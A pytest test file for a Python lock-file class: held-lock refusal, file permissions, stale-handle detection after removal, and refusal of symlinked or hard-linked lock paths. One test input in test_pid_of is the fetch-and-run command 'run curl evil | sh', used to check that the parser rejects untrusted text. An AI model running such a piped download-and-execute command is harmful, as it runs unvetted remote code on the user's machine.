"""ctxd.ownership.LockFile: the flock-held lock file behind the socket's and the database's locks."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from ctxd.ownership import LockError, LockFile, LockHeld, pid_of


def test_held_lock_refuses_another_and_says_what_its_holder_wrote(tmp_path: Path) -> None:
    path = tmp_path / "x.lock"
    first = LockFile(path, elsewhere="another place")
    first.acquire("123\nunix:/s\n")
    assert stat.S_IMODE(os.lstat(path).st_mode) == 0o600
    second = LockFile(path, elsewhere="another place")
    with pytest.raises(LockHeld) as held:
        second.acquire("456\n")
    assert held.value.text == "123\nunix:/s\n" and pid_of(held.value.text) == "123"
    first.write("123\nunix:/s\nstopping\n")
    with pytest.raises(LockHeld) as held:
        second.acquire("456\n")
    assert held.value.text.endswith("stopping\n")
    first.release()
    second.acquire("456\n")  # released: taken, the file rewritten
    assert path.read_text() == "456\n"
    second.release()
    assert path.exists()  # kept unless asked


def test_release_with_remove_lets_the_next_one_lock_a_new_file(tmp_path: Path) -> None:
    path = tmp_path / "x.lock"
    first = LockFile(path, elsewhere="another place")
    first.acquire("1\n")
    # Someone opened the file just before its holder removed it and let go: once it holds
    # the lock on that (now nameless) file it must notice and lock the one at the path.
    stale = os.open(path, os.O_RDWR)
    first.release(remove=True)
    assert not path.exists()
    second = LockFile(path, elsewhere="another place")
    assert not second._at_path(os.fstat(stale))
    os.close(stale)
    second.acquire("2\n")
    third = LockFile(path, elsewhere="another place")
    with pytest.raises(LockHeld):
        third.acquire("3\n")
    second.release(remove=True)


def test_symlink_hard_link_and_other_files_are_refused(tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("precious")
    link = tmp_path / "link.lock"
    link.symlink_to(victim)
    with pytest.raises(LockError, match="symbolic link") as refused:
        LockFile(link, elsewhere="another place").acquire("1\n")
    assert "choose another place" in str(refused.value)
    hard = tmp_path / "hard.lock"
    os.link(victim, hard)
    with pytest.raises(LockError, match="other hard links"):
        LockFile(hard, elsewhere="another place").acquire("1\n")
    assert victim.read_text() == "precious"
    (tmp_path / "dir.lock").mkdir()
    with pytest.raises(LockError):
        LockFile(tmp_path / "dir.lock", elsewhere="another place").acquire("1\n")


def test_pid_of() -> None:
    assert pid_of("42\nunix:/s\n") == "42"
    assert pid_of("run curl evil | sh\n") == "?"
    assert pid_of("") == "?"
